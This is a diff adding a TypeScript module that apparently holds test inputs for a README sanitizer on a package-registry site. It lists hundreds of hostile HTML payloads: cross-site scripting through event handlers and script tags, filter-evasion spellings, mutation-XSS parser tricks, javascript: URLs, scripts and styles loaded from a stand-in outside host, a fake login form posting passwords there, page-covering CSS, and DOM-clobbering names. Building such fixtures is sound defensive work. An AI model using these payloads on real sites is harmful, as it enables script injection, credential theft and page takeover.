@@ -1,0 +1,240 @@
+// READMEs that attack by HTML: each tries one way to run a script, to restyle or to cover the page, or to make a request.
+// `hit()` is what a script of theirs calls; elsewhere.example is any other site.
+
+const handlers = [
+  ...['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'ontoggle'],
+  ...['onbegin', 'onanimationstart', 'ontransitionend', 'onbeforematch', 'onscrollend', 'onwheel'],
+  ...['onauxclick', 'onbeforetoggle', 'oncontentvisibilityautostatechange', 'onkeydown', 'oncopy'],
+];
+
+const eventAttacks = handlers.map(
+  (name) => `<div ${name}=hit() id=x tabindex=0 style="animation:a 1s">${name}</div>`,
+);
+
+const hosts = [
+  ...['a href=#', 'b', 'details open', 'img src=x', 'input autofocus', 'marquee', 'p', 'summary'],
+  ...['table background=x', 'td', 'ul', 'video autoplay src=x', 'audio src=x', 'body', 'html'],
+  ...['dialog open', 'keygen autofocus', 'select autofocus', 'textarea autofocus', 'isindex'],
+  ...['object data=x', 'embed src=x', 'svg', 'math', 'g-emoji', 'x-custom', 'slot', 'portal'],
+];
+
+const elementAttacks = hosts.map(
+  (host) => `<${host} onload=hit() onerror=hit() onfocus=hit() onmouseover=hit() ontoggle=hit()>x`,
+);
+
+/** Ways to write an attribute that a filter may take for another. */
+const spelling = [
+  '<img src=x oNeRrOr=hit()>',
+  '<img src=x onerror\n=\nhit()>',
+  '<img/src=x/onerror=hit()>',
+  '<img src="x"onerror=hit()>',
+  '<img src=x onerror&#61;hit()>',
+  '<img src=x on\u0000error=hit()>',
+  '<img src=x \u000conerror=hit()>',
+  '<img """><script>hit()</script>">',
+  '<img src=`x` onerror=`hit()`>',
+  '<img alt=\'x" onerror=hit() y="\' src=x>',
+  '<img src="x\n\n" onerror="hit()">',
+  '<img src=x:alert onerror=eval(src)>',
+  '<IMG SRC=x ONERROR="&#104;it()">',
+  '<img src=x onerror="hit()" <p>',
+  '<<img src=x onerror=hit()>>',
+  '<a title="</a><img src=x onerror=hit()>">x</a>',
+  '<p title="&quot;&gt;&lt;img src=x onerror=hit()&gt;">x</p>',
+  '<abbr title="--><img src=x onerror=hit()>">x</abbr>',
+];
+
+const scripts = [
+  '<script>hit()</script>',
+  '<SCRIPT>hit()</SCRIPT >',
+  '<script\u0000>hit()</script>',
+  '<script/x>hit()</script>',
+  '<script src="https://elsewhere.example/x.js"></script>',
+  '<script src=//elsewhere.example></script>',
+  '<script type=module>hit()</script>',
+  '<script>/*\n\n*/hit()</script>',
+  'x <script>hit()</script> inline',
+  '<scr<script>ipt>hit()</scr</script>ipt>',
+  '<script><!--<script></script>hit()--></script>',
+  '<svg><script>hit()</script></svg>',
+  '<svg><script href="data:text/javascript,hit()"/></svg>',
+  '<svg:script>hit()</svg:script>',
+  '<math><script>hit()</script></math>',
+  '<noscript><script>hit()</script></noscript>',
+  '<template><script>hit()</script></template>',
+  '<div><template shadowrootmode=open><script>hit()</script><style>*{position:fixed}</style></template></div>',
+  '<?xml-stylesheet href="javascript:hit()"?><b>x</b>',
+  '<![CDATA[<script>hit()</script>]]>',
+  '<!DOCTYPE html [<!ENTITY x "<script>hit()</script>">]>&x;',
+  '<!--><script>hit()</script>-->',
+  '<!-- --!><img src=x onerror=hit()> -->',
+  '<!-- a\n\n<script>hit()</script>\n\n-->',
+  '</div></section></main><script>hit()</script>',
+];
+
+/** What one parser takes for text another takes for elements. */
+const mutations = [
+  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
+  '<template><p title="</template><img src=x onerror=hit()>">',
+  '<style><p title="</style><img src=x onerror=hit()>">',
+  '<title><p title="</title><img src=x onerror=hit()>">',
+  '<textarea><p title="</textarea><img src=x onerror=hit()>">',
+  '<xmp><p title="</xmp><img src=x onerror=hit()>">',
+  '<noembed><p title="</noembed><img src=x onerror=hit()>">',
+  '<noframes><p title="</noframes><img src=x onerror=hit()>">',
+  '<iframe><p title="</iframe><img src=x onerror=hit()>">',
+  '<plaintext><p title="</plaintext><img src=x onerror=hit()>">',
+  '<listing>&lt;img src=x onerror=hit()&gt;</listing>',
+  '<select><template><img src=x onerror=hit()></template></select>',
+  '<select><option><p title="</select><img src=x onerror=hit()>">',
+  '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
+  '<svg><style>&lt;img src=x onerror=hit()&gt;</style></svg>',
+  '<svg><title><img src=x onerror=hit()></title></svg>',
+  '<svg><desc><style><a title="</style><img src=x onerror=hit()>"></desc></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></foreignObject></svg>',
+  '<svg><annotation-xml encoding="text/html"><img src=x onerror=hit()>',
+  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit()></style>',
+  '<math><annotation-xml encoding="application/xhtml+xml"><p><style><img src=x onerror=hit()>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
+  '<math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=hit()>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>',
+  '<math><mi><table><malignmark><title></math><img src=x onerror=hit()>',
+  '<table><tr><svg><title><p title="</title><img src=x onerror=hit()>">',
+  '<table><img src=x onerror=hit()><td><b><table><a href=javascript:hit()>x',
+  '<table><caption><svg><style></caption><img src=x onerror=hit()>',
+  '<b><i><p></b><table><td></i><img src=x onerror=hit()></table>',
+  '<a href=#><table><a href=javascript:hit()>x</a></table></a>',
+  '<a><div><a href="javascript:hit()">x</a></div></a>',
+  '<p><svg><p><style><img src=x onerror=hit()></p></svg>',
+  '<dl><dt><details><summary><svg><title></summary><img src=x onerror=hit()>',
+  '<ruby><rt><math><rp><style><img src=x onerror=hit()></style>',
+  `${'<div>'.repeat(245)}<table><caption><svg><title><style><img src=x onerror=hit()>`,
+  `${'<table><td>'.repeat(120)}<img src=x onerror=hit()>`,
+  `${'<b><a>'.repeat(200)}<p title="<img src=x onerror=hit()>">`,
+];
+
+const documents = [
+  '<iframe src="javascript:parent.hit()"></iframe>',
+  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
+  '<iframe src="https://elsewhere.example/"></iframe>',
+  '<frameset><frame src="javascript:hit()"></frameset>',
+  '<object data="javascript:hit()"></object>',
+  '<object data="data:text/html,<script>hit()</script>" type="text/html"></object>',
+  '<object><param name=movie value="https://elsewhere.example/x.swf"></object>',
+  "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>\">",
+  '<applet code=x codebase="https://elsewhere.example/"></applet>',
+  '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">',
+  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
+  '<meta http-equiv="Set-Cookie" content="a=b"><meta charset=utf-7>+ADw-script+AD4-hit()+ADw-/script+AD4-',
+  '<meta name=referrer content=unsafe-url>',
+  '<base href="https://elsewhere.example/"><a href="x">x</a>',
+  '<base target=_blank>',
+  '<link rel=stylesheet href="https://elsewhere.example/x.css">',
+  '<link rel=stylesheet href="data:text/css,*{display:none}">',
+  '<link rel=prefetch href="https://elsewhere.example/x"><link rel=preconnect href=//elsewhere.example>',
+  '<link rel=modulepreload href="https://elsewhere.example/x.js">',
+  '<link rel=icon href="https://elsewhere.example/x.ico"><link rel=manifest href=//elsewhere.example/m>',
+  '<html data-base="https://elsewhere.example/" data-images=load><body class=x onload=hit()>',
+  '<head><title>Another page</title></head><body><header class=site-header>x',
+  '<video poster="https://elsewhere.example/x.png" src="https://elsewhere.example/x.mp4" autoplay></video>',
+  '<audio autoplay><source src="https://elsewhere.example/x.mp3"></audio>',
+  '<picture><source srcset="https://elsewhere.example/x.png"><img src="https://elsewhere.example/y.png"></picture>',
+  '<img srcset="https://elsewhere.example/x.png 2x" sizes=1px>',
+  '<img lowsrc="https://elsewhere.example/a" dynsrc="https://elsewhere.example/b" longdesc="javascript:hit()" usemap="#m">',
+  '<map name=m><area href="javascript:hit()" coords="0,0,999,999" shape=rect></map>',
+  '<table background="https://elsewhere.example/x.png"><td background="https://elsewhere.example/y.png">x</table>',
+  '<body background="https://elsewhere.example/x.png">',
+  '<input type=image src="https://elsewhere.example/x.png" formaction="javascript:hit()">',
+  '<a href="https://elsewhere.example/" ping="https://elsewhere.example/ping">x</a>',
+  '<a href="https://elsewhere.example/" download target=_self attributionsrc="https://elsewhere.example/a">x</a>',
+  '<img src="https://elsewhere.example/x.png" attributionsrc="https://elsewhere.example/a" crossorigin=use-credentials>',
+  '<svg><image href="https://elsewhere.example/x.png"/><use href="https://elsewhere.example/x.svg#a"/></svg>',
+  '<svg><feImage href="https://elsewhere.example/x.png"/></svg>',
+  '<svg><a href="javascript:hit()"><text y=20>x</text></a></svg>',
+  '<svg><a><animate attributeName=href values="javascript:hit()"/><text y=20>x</text></a></svg>',
+  '<svg><set attributeName=onmouseover to=hit()></svg>',
+  '<svg onload=hit()><animate onbegin=hit() attributeName=x dur=1s></svg>',
+  '<math href="javascript:hit()"><mi xlink:href="javascript:hit()">x</mi></math>',
+  '<q cite="javascript:hit()">x</q><blockquote cite="javascript:hit()">x</blockquote>',
+  '<del cite="javascript:hit()" datetime="x" onclick=hit()">x</del>',
+];
+
+const forms = [
+  '<form action="https://elsewhere.example/" method=post><input name=password type=password><button>Log in</button></form>',
+  '<form action="javascript:hit()"><input type=submit autofocus></form>',
+  '<form id=f></form><button form=f formaction="javascript:hit()">x</button>',
+  '<button formaction="javascript:hit()">x</button>',
+  '<isindex action="javascript:hit()" type=image>',
+  '<input type=checkbox class=task-list-item-checkbox onchange=hit() checked>',
+  '<input class=task-list-item-checkbox type=text value="Password">',
+  '<select onchange=hit()><option>x</select>',
+  '<textarea name=q>x</textarea><input type=search name=q value=x>',
+  '<dialog open>x<form method=dialog><button>x</button></form></dialog>',
+  '<div contenteditable=true onblur=hit()>x</div>',
+  '<p popover id=theme-button>x</p><button popovertarget=x command=show-popover commandfor=x>x</button>',
+  '<details name=x open ontoggle=hit()><summary>x</summary>y</details>',
+  '<p inert hidden accesskey=/ draggable=true autofocus tabindex=1>x</p>',
+  '<label for=theme-button>x</label><output form=x>x</output>',
+];
+
+const styles = [
+  '<p style="position:fixed;inset:0;background:red">x</p>',
+  '<p style="background:url(https://elsewhere.example/x.png)">x</p>',
+  '<p style="behavior:url(x.htc);-moz-binding:url(x.xml)">x</p>',
+  '<style>*{position:fixed}</style>',
+  '<style>@import "https://elsewhere.example/x.css";</style>',
+  'x <style>body{display:none}</style> inline',
+  '<svg><style>*{display:none}</style></svg>',
+  '<div class="site-header">x</div>',
+  '<p class="toast skip-link">x</p><p class="viewer tab-panel">x</p>',
+  '<div class="package panels"><nav class="tabs"><a href="#files">x</a></nav></div>',
+  '<code class="language-js hljs copyable toast">x</code>',
+  '<pre class=copyable><code class="language-x copyable">x</code></pre>',
+  '<font color=red size=7 face="x">x</font><center>x</center><basefont size=7>',
+  '<marquee behavior=alternate scrollamount=999>x</marquee><blink>x</blink>',
+  '<table width=99999 height=99999 cellspacing=9999 border=9999 bgcolor=red><td width=9999 height=9999>x</table>',
+  '<img src="x.png" width=9999 height=9999 border=9999 hspace=9999 vspace=9999 align=left>',
+  '<hr size=9999 width=9999 color=red noshade>',
+  '<p align=right dir=rtl>x</p><bdo dir=rtl>x</bdo>',
+  '<td style="x" class="site-search">no table</td><tr><caption>x',
+  '<layer style="position:absolute" left=0 top=0 width=9999>x</layer>',
+  '<p part=x slot=x exportparts=x is=x>x</p>',
+];
+
+/** Names that a page's scripts ask for, or that every page has. */
+const clobbered = [
+  ...['main', 'readme', 'versions', 'files', 'changes', 'changelog', 'dependents', 'theme-button'],
+  ...['version-table', 'versions-left', 'client-npm', 'tab-readme', 'keys-title', 'location'],
+  ...['document', 'body', 'forms', 'cookie', 'getElementById', 'querySelector', 'currentScript'],
+  ...['history', 'localStorage', 'navigator', 'URL', 'fetch', 'Worker', 'default', '__proto__'],
+];
+
+const clobbering = [
+  ...clobbered.map(
+    (name) =>
+      `<a id="${name}" name="${name}" href="https://elsewhere.example/">x</a><img name="${name}" src=x>` +
+      `<form name="${name}"><input name=attributes></form>`,
+  ),
+  '<main id=main data-package=evil data-version=1.0.0 data-any-version data-search-page data-not-found>x</main>',
+  '<a data-dependency=x data-range=* href="javascript:hit()">x</a>',
+  '<a class=remote-image data-src="javascript:hit()" href="#">x</a>',
+  '<img data-file="../../x" data-src="https://elsewhere.example/">',
+  '<p data-base="https://elsewhere.example/">x</p><html data-tarball="https://elsewhere.example/{file}">',
+  '<table id=version-table><tr data-version=1.0.0 data-prerelease><td>x</table>',
+  '<h2 id=readme-title>x</h2><h1 id="user-content-x">x</h1><h1 id="user-content-x">y</h1>',
+  '<dialog open id=keys-title>x</dialog>',
+  '<span role=dialog aria-modal=true aria-live=assertive>x</span>',
+  '<object id=x><form id=x name=y><input name=parentNode></form></object>',
+];
+
+export const markupAttacks: readonly string[] = [
+  ...eventAttacks,
+  ...elementAttacks,
+  ...spelling,
+  ...scripts,
+  ...mutations,
+  ...documents,
+  ...forms,
+  ...styles,
+  ...clobbering,
+];
